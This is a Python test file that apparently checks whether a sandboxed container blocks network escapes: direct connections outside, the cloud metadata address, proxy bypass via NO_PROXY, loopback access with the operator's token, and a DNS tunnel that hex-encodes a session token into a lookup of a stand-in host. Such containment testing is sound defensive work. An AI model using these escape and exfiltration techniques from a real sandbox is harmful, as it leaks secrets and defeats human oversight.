"""Ways out by the network: straight to some host, round the gateway."""

import json
import os
import socket
import struct
import urllib.request

from tests.hostile_container.attempt import MACHINES, Facts, Refused, attempt

SECONDS = 2.0
OUTSIDE, OUTSIDE_6, METADATA, NAMES, HOST = (
    "198.51.100.7",
    "2001:db8::7",
    "169.254.169.254",
    "192.0.2.53",
    "172.17.0.1",
)


def connected(address: str, port: int) -> str:
    """What a host says first, or that it is there."""
    with socket.create_connection((address, port), SECONDS) as way:
        return f"connected to {way.getpeername()[0]} port {port}"


def answered(address: str, port: int, said: bytes) -> bytes:
    """What comes back on a datagram."""
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as way:
        way.settimeout(SECONDS)
        way.sendto(said, (address, port))
        return way.recv(2000)


@attempt("TCP to a host outside", wall="network", process=MACHINES)
def tcp_outside(_facts: Facts) -> str:
    return connected(OUTSIDE, 443)


@attempt("TCP to the machine, by the address its bridge would have", wall="network", process=MACHINES)
def tcp_machine(_facts: Facts) -> str:
    return connected(HOST, 5432)


@attempt("TCP over IPv6", wall="network", process=MACHINES)
def tcp_ipv6(_facts: Facts) -> str:
    return connected(OUTSIDE_6, 443)


@attempt("the cloud's metadata address", wall="network", process=MACHINES)
def metadata(_facts: Facts) -> str:
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
    with opener.open(f"http://{METADATA}/latest/meta-data/", timeout=SECONDS) as answer:
        return f"metadata: {answer.read(40).decode()}"


@attempt("UDP 53: a question to a name server outside", wall="network", process=MACHINES)
def udp_names(_facts: Facts) -> str:
    return f"{len(answered(NAMES, 53, question('example.org')))} bytes from a name server"


@attempt("UDP 443, as QUIC has it", wall="network", process=MACHINES)
def udp_quic(_facts: Facts) -> str:
    return f"{len(answered(OUTSIDE, 443, b'initial'))} bytes of an answer"


@attempt(
    "a tunnel of names: what is secret, as a host's name to be looked up", wall="network", process=MACHINES
)
def names_tunnel(_facts: Facts) -> str:
    word = os.environ.get("EGG_SESSION_TOKEN", "token").encode().hex()[:50]
    try:
        found = socket.getaddrinfo(f"{word}.tunnel.example", 80, socket.AF_INET)
    except socket.gaierror as error:
        raise Refused(error.strerror) from error
    return f"{word[:8]}… was heard outside: {found[0][4][0]}"


@attempt("ICMP: ping", wall="network", process=MACHINES)
def ping(_facts: Facts) -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as way:
        way.settimeout(SECONDS)
        way.sendto(struct.pack("!BBHHH", 8, 0, 0xF7FF, 0, 0), (OUTSIDE, 0))
        return f"{len(way.recv(100))} bytes of an echo"


@attempt("`NO_PROXY=*`: a program told to go round the gateway", wall="network", process=MACHINES)
def no_proxy(_facts: Facts) -> str:
    os.environ.update(NO_PROXY="*", no_proxy="*")
    with urllib.request.urlopen(f"http://{OUTSIDE}/", timeout=SECONDS) as answer:
        return f"HTTP {answer.status} without a proxy"


@attempt("a datagram to everybody near by", wall="network", process=MACHINES)
def broadcast(_facts: Facts) -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as way:
        way.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        way.sendto(b"anybody?", ("10.255.255.255", 1900))
        return "sent"


@attempt("the API straight, and not by the gateway", wall="loopback", process=MACHINES)
def api_straight(facts: Facts) -> str:
    return connected("127.0.0.1", int(facts["api_port"]))


@attempt("a program of the person's that listens on loopback", wall="loopback", process=MACHINES)
def persons_server(facts: Facts) -> str:
    return connected("127.0.0.1", int(facts["server_port"]))


@attempt(
    "a socket without a path (abstract), as engines and desktops have", wall="loopback", process=MACHINES
)
def abstract_socket(facts: Facts) -> str:
    with socket.socket(socket.AF_UNIX) as way:
        way.connect(f"\0{facts['abstract']}")
        return f"heard {way.recv(40).decode()}"


@attempt("the operator's routes, by the operator's own token", wall="loopback", process=MACHINES)
def operator_routes(facts: Facts) -> str:
    url = f"http://127.0.0.1:{facts['api_port']}/api/v1/pipelines"
    asked = urllib.request.Request(url, headers={"Authorization": f"Bearer {facts['operator']}"})
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
    try:
        with opener.open(asked, timeout=SECONDS) as answer:
            return f"{len(json.load(answer)['data']['pipelines'])} pipelines are listed"
    except urllib.error.URLError as error:
        raise Refused(str(error.reason)) from error


def question(name: str) -> bytes:
    """A question for a name's address, as name servers are asked."""
    words = b"".join(bytes([len(word)]) + word.encode() for word in name.split("."))
    return struct.pack("!6H", 7, 0x100, 1, 0, 0, 0) + words + b"\0" + struct.pack("!2H", 1, 1)
